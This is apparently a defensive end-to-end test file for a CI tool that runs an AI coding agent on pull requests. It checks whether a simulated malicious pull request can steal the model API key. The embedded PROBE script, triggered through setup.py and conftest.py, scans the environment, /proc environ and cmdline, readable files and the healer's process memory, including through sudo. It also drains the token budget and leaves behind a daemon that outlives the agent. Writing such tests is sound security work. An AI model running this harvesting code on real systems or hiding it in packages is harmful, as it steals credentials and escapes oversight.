"""End to end, as an attacker after the model key: the code of a same-repository pull request — its
``setup.py`` (run by the set-up command), a ``conftest.py`` (loaded by verification), a process the agent
starts, and a daemon that outlives the agent — looks for the agent's key in its environment, in every
process's ``/proc/<pid>/environ`` and ``cmdline``, in the files it can read, and in the healer's own memory
(``/proc/<healer pid>/mem``, where the proxy holds it), with ``sudo`` where it has it. Then it sends requests
through the proxy in a loop, and the proxy stops it at the budget.

Under ``isolation: user`` it finds nothing. Under ``isolation: none`` the same attack finds the key, and the
job summary names it: the test of the attack can fail. Needs what tests/e2e/test_attacks.py needs.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from harness import BROKEN_ADD, LINT_PASSED, assert_no_token, failing_test_log, record_bodies
from test_attacks import HOW, PYTHON, pytestmark  # noqa: F401 - the same skips

from healer.demo.fakemodel import FakeModel
from healer.demo.running import HealerRun
from healer.demo.sample import BASE_FILES
from healer.demo.sandbox import Sandbox
from healer.demo.standin import StandIn
from healer.ledger.markers import Kind, decode_markers
from healer.model import DELIVERED

# Distinctive, so that a leak anywhere is found by a pattern (the attack knows the prefix, not the key). Made
# at run time: the attack searches every file it can read, and a checkout of these tests may be among them.
KEY = "sk-ant-api03-E2eModelKey" + secrets.token_hex(24)

PROBE = r"""
import glob, json, os, pathlib, re, subprocess, sys, time, urllib.error, urllib.request

HERE = pathlib.Path(__file__).resolve().parent
CONFIG = json.loads((HERE / "probe.json").read_text())
PHASE = sys.argv[1]
NEEDLE = re.compile(rb"sk-ant-api03-E2eModelKey[A-Za-z0-9]{16,}")
REPORT = pathlib.Path(CONFIG["report_dir"])

def read(path, limit=2 << 20):
    with open(path, "rb") as handle:
        return handle.read(limit)

def healer_pids():
    found = []
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            if b"healer\x00run" in read(proc + "/cmdline"):
                found.append(int(proc.rsplit("/", 1)[1]))
        except OSError:
            pass
    return found

def memory(pid, found, opened):
    try:
        maps = read(f"/proc/{pid}/maps").decode()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            opened.append(pid)
            budget = 256 << 20
            for line in maps.splitlines():
                fields = line.split()
                if "rw" not in fields[1] or budget <= 0:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(min(end - start, budget))
                except (OSError, OverflowError, ValueError):
                    continue
                budget -= len(data)
                if NEEDLE.search(data):
                    found.append(f"/proc/{pid}/mem")
                    return
    except OSError:
        pass

def search():
    found, opened = [], []
    if NEEDLE.search("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()):
        found.append("environment")
    for proc in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                if NEEDLE.search(read(f"{proc}/{name}")):
                    found.append(f"{proc}/{name}")
            except OSError:
                pass
    for pid in healer_pids():
        memory(pid, found, opened)
        for name in ("environ", "mem"):
            try:  # a hosted runner's user has passwordless sudo; the throwaway user has none
                argv = ["sudo", "-n", "cat", f"/proc/{pid}/{name}"]
                done = subprocess.run(argv, capture_output=True, timeout=20)
                if done.returncode == 0 and NEEDLE.search(done.stdout):
                    found.append(f"sudo cat /proc/{pid}/{name}")
            except (OSError, subprocess.TimeoutExpired):
                pass
    seen = 0
    for root in CONFIG["roots"]:
        for directory, _, names in os.walk(root):
            for name in names:
                seen += 1
                if seen > 20000:
                    break
                path = os.path.join(directory, name)
                if not os.path.isfile(path):
                    continue  # a fifo (another test's) would block the open forever, a device never end
                try:
                    if NEEDLE.search(read(path)):
                        found.append(path)
                except OSError:
                    pass
    return found, opened

def report(**values):
    with open(REPORT / "report.jsonl", "a") as handle:
        handle.write(json.dumps({"phase": PHASE, "uid": os.getuid(), **values}) + "\n")

def ask(url, token):
    body = json.dumps({"model": "m", "max_tokens": 64, "stream": True, "messages": []}).encode()
    headers = {"x-api-key": token, "content-type": "application/json"}
    request = urllib.request.Request(url + "/v1/messages", body, headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            response.read()
            return response.status, ""
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode(errors="replace")
    except OSError as exc:
        return 0, type(exc).__name__

if PHASE == "daemon":
    end, first = time.time() + 60, True
    while time.time() < end:
        (REPORT / "daemon-heartbeat").write_text(str(time.time()))
        found, opened = search()
        if found or opened or first:
            report(found=found, mem=opened)
            (REPORT / "daemon-searched").write_text("1")
        first = False
        time.sleep(0.2)
    sys.exit(0)

found, opened = search()
values = {"found": found, "mem": opened, "healers": healer_pids()}
if PHASE == "agent-child":
    # the agent's tests, say: they spend the agent's model through the proxy, in a loop
    url, token = os.environ.get("ANTHROPIC_BASE_URL", ""), os.environ.get("ANTHROPIC_API_KEY", "")
    statuses, said = [], ""
    for _ in range(50):
        status, said = ask(url, token)
        statuses.append(status)
        if status != 200:
            break
    values.update(statuses=statuses, said=said, url=url, token=token)
report(**values)
if PHASE == "agent":
    subprocess.run([sys.executable, str(HERE / "probe.py"), "agent-child"], check=False)
    daemon = ["setsid", "nohup", sys.executable, str(HERE / "probe.py"), "daemon"]
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen(daemon, start_new_session=True, **quiet)
    deadline = time.time() + 30  # until the daemon has looked once (it lives on, and is looked for later)
    while not (REPORT / "daemon-searched").exists() and time.time() < deadline:
        time.sleep(0.02)
    calc = pathlib.Path("widgets/calc.py")
    calc.write_text(calc.read_text().replace("a - b", "a + b"))
print(f"{PHASE}: {len(found)} found")
"""
# what `pip install -e .` would run of the pull request: its setup.py
SETUP_PY = 'import subprocess, sys\nsubprocess.run([sys.executable, "probe.py", "setup"], check=True)\n'
CONFTEST = 'import subprocess, sys\nsubprocess.run([sys.executable, "probe.py", "conftest"], check=True)\n'


@pytest.fixture
def public_box(standin: StandIn) -> Iterator[Sandbox]:
    root = Path(tempfile.mkdtemp(prefix="ci-healer-e2e-"))
    root.chmod(0o755)
    try:
        yield Sandbox.create(root / "gh", standin, files=BASE_FILES)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _attack(box: Sandbox, isolation: str) -> tuple[HealerRun, list[dict[str, Any]], FakeModel, Path]:
    box.isolation = isolation
    report_dir = Path(tempfile.mkdtemp(prefix="ci-healer-report-", dir=box.root))
    report_dir.chmod(0o777)  # the one place the attack may write: its report
    config = {"report_dir": str(report_dir), "roots": [str(box.root), "/tmp"]}
    box.commit("feature/key", {"widgets/calc.py": BROKEN_ADD}, "Simplify add()")
    log = failing_test_log(box)  # the failure CI saw (before the attack's files: its run of pytest is real)
    files = {
        "probe.py": PROBE,
        "probe.json": json.dumps(config),
        "setup.py": SETUP_PY,
        "conftest.py": CONFTEST,
    }
    sha = box.commit("feature/key", files, "Add packaging")
    pull = box.open_pull("feature/key", sha, title="Simplify add()")
    run = box.add_run(pull, [("lint", "success", LINT_PASSED), ("test (3.12)", "failure", log)])
    with FakeModel(input_tokens=100, output_tokens=20) as fake:
        result = box.run_healer(
            run,
            inputs={
                "setup-command": f"{PYTHON} setup.py",
                "agent-command": f"{PYTHON} probe.py agent",
                "verify-command": f'{PYTHON} -c "import conftest"',
                "model-api-url": fake.url,
                "agent-token-budget": "500",
            },
            secrets={"ANTHROPIC_API_KEY": KEY},
            tag=f"key-{isolation}",
            timeout=180,
        )
        box.standin.idle()
    reports = [json.loads(line) for line in (report_dir / "report.jsonl").read_text().splitlines()]
    return result, reports, fake, report_dir


def test_under_isolation_user_no_code_of_the_pull_request_finds_the_key_and_the_budget_stops_it(
    public_box: Sandbox,
) -> None:
    box = public_box
    result, reports, fake, report_dir = _attack(box, "user")
    detail = f"\n--- stdout ---\n{result.stdout[-6000:]}\n--- stderr ---\n{result.stderr[-3000:]}"
    assert result.returncode == 0, detail
    phases = [r["phase"] for r in reports]
    assert set(phases) == {"setup", "agent", "agent-child", "daemon", "conftest"}, phases
    for report in reports:
        assert report["uid"] != os.geteuid()
        assert report["found"] == [], report  # not in its environment, any environ or cmdline, any file
        assert report.get("mem", []) == [], report  # and the healer's memory stayed closed
    agent = next(r for r in reports if r["phase"] == "agent")
    assert agent["healers"], "the attack saw the healer's process"
    # the loop through the proxy: five answers of 120 tokens, then the budget's refusal
    child = next(r for r in reports if r["phase"] == "agent-child")
    assert child["statuses"] == [200] * 5 + [400], child
    assert "token budget is spent (600 of 500 tokens)" in str(child["said"])
    assert len(fake.requests) == 5 and {r.headers["x-api-key"] for r in fake.requests} == {KEY}
    assert child["token"] != KEY and str(child["url"]).startswith("http://127.0.0.1:")
    # the heal is over: its token is void and the port closed
    status, _ = _ask(str(child["url"]), str(child["token"]))
    assert status == 0
    # the daemon it left was killed with every other process of the user
    beat = report_dir / "daemon-heartbeat"
    assert beat.exists()
    before = beat.stat().st_mtime_ns
    time.sleep(0.5)
    assert beat.stat().st_mtime_ns == before, "the daemon is still running"
    # the work done before the budget stopped it went through the guard and verification and was delivered
    assert result.outputs["decision"] == "healed", detail
    assert result.outputs["agent-tokens"] == "600"
    [record] = [body for body in record_bodies(box, 1) if '"kind":"attempt"' in body]
    [marker] = [m for m in decode_markers(record) if m.kind is Kind.ATTEMPT]
    assert (marker.result in DELIVERED, marker.stopped, marker.tokens) == (True, "agent-token-budget", 600)
    assert "agent-token-budget" in record  # the fix's body says which budget stopped the agent
    assert "agent-token-budget" in result.summary
    assert "ANTHROPIC_API_KEY" not in result.summary  # no warning to give
    everything = result.stdout + result.stderr + result.summary + record
    assert KEY not in "\n".join(
        line for line in everything.splitlines() if not line.startswith("::add-mask::")
    )
    assert f"::add-mask::{KEY}" in result.stdout
    assert_no_token(box, result)


def test_under_isolation_none_the_same_attack_finds_the_key_and_the_summary_names_it(
    public_box: Sandbox,
) -> None:
    result, reports, _, _ = _attack(public_box, "none")
    assert result.returncode == 0, result.stdout[-4000:]
    found = [place for report in reports for place in report["found"]]
    assert found, "under isolation: none the attack should reach the key (as the healer's user, or with sudo)"
    assert "`ANTHROPIC_API_KEY`" in result.summary and "isolation: none" in result.summary
    assert KEY not in result.summary


def _ask(url: str, token: str) -> tuple[int, str]:
    request = urllib.request.Request(url + "/v1/messages", b"{}", {"x-api-key": token}, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=5) as response:  # noqa: S310 - loopback
            return response.status, ""
    except urllib.error.HTTPError as exc:
        return exc.code, ""
    except OSError as exc:
        return 0, type(exc).__name__
